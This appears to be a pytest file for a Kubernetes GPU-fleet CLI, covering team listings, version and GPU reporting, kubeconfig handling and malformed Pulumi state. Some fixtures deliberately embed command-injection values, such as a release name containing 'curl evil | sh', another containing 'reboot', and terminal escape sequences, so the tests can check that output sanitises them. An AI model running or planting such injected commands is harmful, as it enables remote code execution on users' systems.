"""`fleet teams`: what is written and what runs, with what is not known left open."""

import io
import json
import subprocess
from types import SimpleNamespace

import pytest
from rich.console import Console

from kai_fleet.cluster.tenant_kubeconfig import of_secret
from kai_fleet_cli import cluster_reader
from kai_fleet_cli.display import terminal as screens
from kai_fleet_cli.display.terminal import Screen
from kai_fleet_cli.errors import UserError
from kai_fleet_cli.teams import connect, listing, nodes, stack_state
from tests.unit import vcluster_secrets

URN = "urn:pulumi:lab::kai-fleet::kai-fleet:index:"
RELEASE = "kubernetes:helm.sh/v3:Release"
KEPT = of_secret(vcluster_secrets.data(), "https://10.0.0.1:443", "team-ml-ml")
SECRET = {"4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270"}


def release(place, name, version, **more):
    urn = f"{URN}{place}${RELEASE}::{name}"
    return {"type": RELEASE, "urn": urn, "outputs": {"version": version}, **more}


STATE = [
    {
        "type": "pulumi:pulumi:Stack",
        "urn": "urn:pulumi:lab::kai-fleet::pulumi:pulumi:Stack::kai-fleet-lab",
        "outputs": {
            "teams": {"ml": {"gpus": 4}},
            "kubeconfigs": SECRET | {"plaintext": json.dumps({"ml": KEPT, "old": KEPT})},
        },
    },
    release("Platform$kai-fleet:index:GpuStack", "host-gpu-release", "1.0"),
    release("Platform$kai-fleet:index:KaiScheduler", "host-kai-release", "v0.16.8"),
    release("Team$kai-fleet:index:VirtualCluster", "ml-release", "0.36.1"),
    release("Team$kai-fleet:index:KaiScheduler", "ml-kai-release", "v0.13.4"),
    release("Team$kai-fleet:index:KaiScheduler", "ml-kai-release", "v0.7.11", delete=True),
    release("Team$kai-fleet:index:VirtualCluster", "old-release", "0.36.1"),
]


def pod(namespace="default", node="n", gpus=None, **annotations):
    limits = {"nvidia.com/gpu": gpus} if gpus else {}
    return {
        "metadata": {
            "name": "a",
            "namespace": namespace,
            "annotations": {key.replace("_", "-"): value for key, value in annotations.items()},
        },
        "spec": {"nodeName": node, "containers": [{"resources": {"limits": limits}}]},
        "status": {"phase": "Running"},
    }


@pytest.fixture
def connected(monkeypatch):
    connected = connect.Connected(None, {"PATH": "/nowhere"})
    monkeypatch.setattr(connect, "to_platform", lambda platform: connected)


def states(monkeypatch, **found):
    def read(stack, variables):
        if stack not in found:
            raise UserError(f"stack {stack} was never updated")
        return stack_state.of_resources(found[stack])

    monkeypatch.setattr(stack_state, "read", read)


def answers(monkeypatch, pods):
    monkeypatch.setattr(cluster_reader.ClusterReader, "_items", lambda cluster, path: pods)


def as_json(with_own):
    ran = with_own.run("teams", "-s", "lab", "--json")
    assert ran.code == 0, ran.refusal
    record = json.loads(ran.out)
    return {row["team"]: row for row in record["teams"]}, record["notes"]


def test_the_list_tells_wanted_from_running(with_own, connected, monkeypatch):
    states(monkeypatch, lab=STATE)
    answers(monkeypatch, [pod(gpus="2"), pod(gpus="1")])
    rows, notes = as_json(with_own)
    assert list(rows) == ["dev", "ml", "vision", "old"]
    assert rows["ml"] == {
        "team": "ml",
        "stack": "lab",
        "mode": "virtual",
        "version": {"wanted": "v0.14.7", "running": "v0.13.4"},
        "supportEnd": "2027-03-31",
        "queues": ["train", "serve"],
        "gpus": {"most": 4, "guaranteed": 4.0, "used": 3.0},
    }
    assert rows["vision"]["stack"] == "lab-vision"
    assert rows["vision"]["version"]["running"] is None
    assert rows["dev"]["gpus"] == {"most": 1, "guaranteed": None, "used": None}
    assert "stack lab-vision was never updated" in notes
    refused = next(note for note in notes if note.startswith("team old is in no file any more"))
    assert refused.endswith("named: .venv/bin/fleet up --stack lab --remove-team old")
    file = with_own.root / "Pulumi.lab.yaml"
    file.write_text(file.read_text() + "  kai-fleet:removed: [old]\n")
    _, notes = as_json(with_own)
    assert "team old is in no file any more; the next update removes it" in notes
    file.write_text(file.read_text().replace("removed: [old]", "removed: older"))
    _, notes = as_json(with_own)
    assert not any("removes it" in note for note in notes)


@pytest.mark.parametrize("wrong", ["x", ["x"], {"ml": "x"}])
def test_a_team_says_nothing_of_others_and_prints_nothing_by_its_own_stack(
    with_own, connected, monkeypatch, wrong
):
    """It writes that stack's state. What is printed of a team's name is a command to copy."""
    stack = STATE[0] | {"outputs": {"kubeconfigs": wrong, "teams": wrong}}
    mine = release("Team$kai-fleet:index:KaiScheduler", "vision-kai-release", "\x1b[2Jv0.16.8")
    evil = release("Team$kai-fleet:index:VirtualCluster", "x; curl evil | sh #-release", "1")
    odd = release("Team$kai-fleet:index:VirtualCluster", "vision-release", "1", inputs=["x"])
    other = release("Team$kai-fleet:index:KaiScheduler", "ml-kai-release", "v0.7.11")
    states(monkeypatch, **{"lab": STATE, "lab-vision": [stack, mine, evil, odd, other]})
    answers(monkeypatch, [pod(gpus="2")])
    rows, notes = as_json(with_own)
    assert list(rows) == ["dev", "ml", "vision", "old"]
    assert (rows["ml"]["version"]["running"], rows["ml"]["gpus"]["used"]) == ("v0.13.4", 2.0)
    assert "curl" not in str(notes) and "\x1b" not in str(rows)


def test_a_team_that_is_granted_and_runs_here_is_told_to_go_back(with_own, connected, monkeypatch):
    states(monkeypatch, lab=STATE)
    file = with_own.root / "Pulumi.lab.yaml"
    file.write_text(file.read_text() + "    old: {nodePool: {pool: old}, gpus: 1}\n")
    _, notes = as_json(with_own)
    (note,) = (note for note in notes if note.startswith("team old is granted a stack of its own"))
    assert note.endswith("until it is back in kai-fleet:teams (docs/team-stacks.md)")


STACK = STATE[0]


def test_a_team_stacks_state_speaks_of_its_own_team_alone(with_own, connected, monkeypatch):
    vision = {**STACK, "outputs": {"kubeconfigs": {"ml": KEPT, "vision": "x", "dev": "x"}}}
    bad = release("Team$kai-fleet:index:VirtualCluster", "x; reboot\x1b[2J-release", "0.36.1")
    states(monkeypatch, lab=[], **{"lab-vision": [vision, bad]})
    answers(monkeypatch, [pod(gpus="2")])
    rows, notes = as_json(with_own)
    assert rows["ml"]["gpus"]["used"] is None, "its tenant does not say what another team holds"
    assert [note for note in notes if "kubeconfig of team dev" in note] == []
    assert [note for note in notes if "kubeconfig of team vision" in note]
    assert set(rows) == {"dev", "ml", "vision"}, "a name goes into commands"


def test_a_team_called_as_another_ones_kai_has_values_and_no_version():
    of_kai = release("Team$kai-fleet:index:KaiScheduler", "ml-kai-release", "v0.16.8")
    its_own = release("Team$kai-fleet:index:VirtualCluster", "ml-kai-release", "0.36.1")
    found = stack_state.of_resources([of_kai, its_own])
    assert (dict(found.versions), set(found.values)) == ({"ml": "v0.16.8"}, {"ml-kai"})


@pytest.mark.parametrize(
    "resources",
    [[{"type": RELEASE}], ["x"], {"urn": 1}],
)
def test_a_state_that_no_update_wrote_is_a_sentence(monkeypatch, resources):
    exported = {"deployment": {"resources": resources}}
    monkeypatch.setattr(stack_state, "ask", lambda *_: exported)
    with pytest.raises(
        UserError, match="the state of stack lab-vision holds what no update writes"
    ):
        stack_state.read("lab-vision", {})


def test_vclusters_that_do_not_answer_are_named(with_own, connected, monkeypatch):
    def silent(cluster):
        raise cluster_reader.NoAnswerError("connection refused")

    states(monkeypatch, lab=STATE)
    monkeypatch.setattr(cluster_reader.ClusterReader, "pods", silent)
    rows, notes = as_json(with_own)
    assert rows["ml"]["gpus"]["used"] is None
    assert rows["ml"]["version"] == {"wanted": "v0.14.7", "running": None}, "it may be gone"
    note = "what runs and the GPUs in use are not known where the vCluster did not answer: ml, old"
    assert note in notes


def test_a_vcluster_that_answers_no_pods_holds_up_no_removal(with_own, connected, monkeypatch):
    states(monkeypatch, lab=STATE)
    answers(monkeypatch, [{"spec": {"nodeName": "n", "containers": "x"}}])
    screen = Screen(Console(width=200), asks=True)
    monkeypatch.setattr(Screen, "standard", lambda: screen)
    monkeypatch.setattr(screens.Prompt, "ask", lambda *_, **__: "no")
    ran = with_own.run("team", "remove", "ml", "--stack", "lab")
    assert ran.refusal == "nothing is changed"
    assert "  every pod in it\n" in ran.out


def test_the_table_fits_a_terminal_and_leaves_open_what_nobody_knows(with_own, monkeypatch):
    nobody = connect.Connected(note="the sandbox is not running; start it with: make up")
    monkeypatch.setattr(connect, "to_platform", lambda platform: nobody)
    monkeypatch.setenv("COLUMNS", "80")
    ran = with_own.run("teams", "-s", "lab")
    lines = ran.out.splitlines()
    row = next(number for number, line in enumerate(lines) if line.strip().startswith("ml"))
    assert lines[row].split() == ["ml", "virtual", "v0.14.7", "-", "2027-03-31", "-/4/4"]
    assert lines[row + 1] == "  stack lab; queues train, serve"
    assert "- the sandbox is not running; start it with: make up" in ran.out


def test_the_kubeconfig_goes_to_a_file_that_only_its_owner_reads(with_own, connected, monkeypatch):
    states(monkeypatch, lab=STATE)
    file = with_own.root / "ml.kubeconfig"
    file.write_text("older")
    file.chmod(0o644)
    assert with_own.run("team", "kubeconfig", "ml", "-s", "lab", "-o", str(file)).code == 0
    assert file.read_text() == KEPT
    assert file.stat().st_mode & 0o777 == 0o600
    assert with_own.run("team", "kubeconfig", "ml", "-s", "lab").out == KEPT
    missing = with_own.run("team", "kubeconfig", "dev", "-s", "lab")
    assert missing.refusal.endswith("was never made; run: make up STACK=lab")
    nowhere = with_own.run("team", "kubeconfig", "ml", "-s", "lab", "-o", "/nowhere/x")
    assert nowhere.refusal == "/nowhere/x cannot be written: No such file or directory"


def test_a_kubeconfig_in_the_state_that_is_not_vclusters_is_not_given_out(
    with_own, connected, monkeypatch
):
    """A team stack's state is its team's; earlier versions took what was in the Secret."""
    document = vcluster_secrets.config(server="https://10.0.0.1:443")
    document["users"][0]["user"]["exec"] = vcluster_secrets.USER["exec"]
    held = {"type": "pulumi:pulumi:Stack", "urn": STATE[0]["urn"]}
    held["outputs"] = {"kubeconfigs": {"ml": json.dumps(document)}}
    states(monkeypatch, lab=[held, *STATE[1:]])
    asked = []
    monkeypatch.setattr(
        cluster_reader.ClusterReader, "pods", lambda cluster: asked.append(cluster) or []
    )
    ran = with_own.run("team", "kubeconfig", "ml", "-s", "lab")
    says = (
        "the kubeconfig of team ml in the stack's state has users[0].user.exec in its key config,"
        " which vCluster does not write there. Somebody who can write in the namespace of team ml"
    )
    assert ran.code == 1
    assert ran.refusal.startswith(says)
    assert ran.out == ""
    _, notes = as_json(with_own)
    assert any(note.startswith(says) for note in notes)
    assert asked == []


def test_a_state_that_cannot_be_read_is_one_sentence(monkeypatch):
    def failing(stderr):
        done = SimpleNamespace(returncode=255, stderr=stderr, stdout="")
        monkeypatch.setattr(stack_state.shutil, "which", lambda *_, **__: "pulumi")
        monkeypatch.setattr(subprocess, "run", lambda *_, **__: done)
        with pytest.raises(UserError) as why:
            stack_state.read("lab", {})
        return str(why.value)

    assert failing("error: no stack named 'lab' found") == "stack lab was never updated"
    assert failing("warning: x\nerror: incorrect passphrase\n").endswith(": incorrect passphrase")


def test_what_a_kill_left_empty_beside_a_state_is_named(monkeypatch, tmp_path):
    beside = tmp_path / ".pulumi" / "stacks" / "kai-fleet" / "lab.json.attrs"
    beside.parent.mkdir(parents=True)
    beside.touch()
    monkeypatch.setattr(stack_state.shutil, "which", lambda *_, **__: "pulumi")
    with pytest.raises(UserError, match=f"the state of stack lab is whole.*rm {beside}"):
        stack_state.read("lab", {"PULUMI_BACKEND_URL": f"file://{tmp_path}"})
    assert beside.exists()


@pytest.mark.parametrize(
    ("held", "gpus"),
    [
        ([pod(gpus="2"), pod(gpus="1")], 3),
        ([pod(gpu_fraction="0.5"), pod(gpu_fraction="0.25", gpu_fraction_num_devices="2")], 1),
        ([pod(gpu_memory="2000")], 1),
        ([pod(node=None, gpus="8")], 0),
        ([pod(gpu_fraction="half")], 0),
        ([], 0),
    ],
)
def test_gpus_in_use_are_those_of_pods_with_a_node(held, gpus, monkeypatch):
    answers(monkeypatch, held)
    assert cluster_reader.ClusterReader().held() == cluster_reader.PodsHeld(len(held), gpus)


def test_free_pools_are_labels_with_gpus_that_no_team_has(with_own):
    from kai_fleet_cli.teams import lookup

    def node(pool, gpus):
        return {
            "metadata": {"labels": {"pool": pool}},
            "status": {
                "allocatable": {"nvidia.com/gpu": gpus},
                "conditions": [{"type": "Ready", "status": "True"}],
            },
        }

    there = [node("ml", 8), node("free", 8), node("free", 4), node("cpu", 0), node("vision", 8)]
    found = nodes.free_pools(lookup.platform("lab"), there)
    assert found == {"pool=free": "2 nodes, 12 GPUs"}


def row(team, stack, wanted, running, end, queues, gpus):
    return {
        "team": team,
        "stack": stack,
        "mode": "virtual",
        "version": {"wanted": wanted, "running": running},
        "supportEnd": end,
        "queues": queues,
        "gpus": dict(zip(("most", "guaranteed", "used"), gpus, strict=True)),
    }


@pytest.mark.parametrize("width", [40, 80, 100, 200])
def test_no_value_of_the_table_is_cut_off(width):
    short = row("ml", "prod", "v0.16.8", "v0.9.3", "2027-06-30", ["a"], (8, 8.0, 1.0))
    long = row(
        "computer-vision-and-robotics",
        "prod-computer-vision-and-robotics",
        "v0.12.23",
        "v0.16.8",
        "2026-12-31",
        [f"batch-of-the-night-{number}" for number in range(9)],
        (128, -1.0, 127.5),
    )
    out = Console(file=io.StringIO(), width=width)
    listing.show("prod", (short, long), (), out)
    lines = out.file.getvalue().splitlines()
    assert max(map(len, lines)) <= width
    assert "…" not in "".join(lines)
    words = {word.strip(",;") for line in lines for word in line.split()}
    for each in (short, long):
        whole = {each["team"], each["mode"], *each["version"].values(), each["supportEnd"]}
        assert whole | {each["stack"], *each["queues"]} <= words
    assert "127.5/unlimited/128" in words
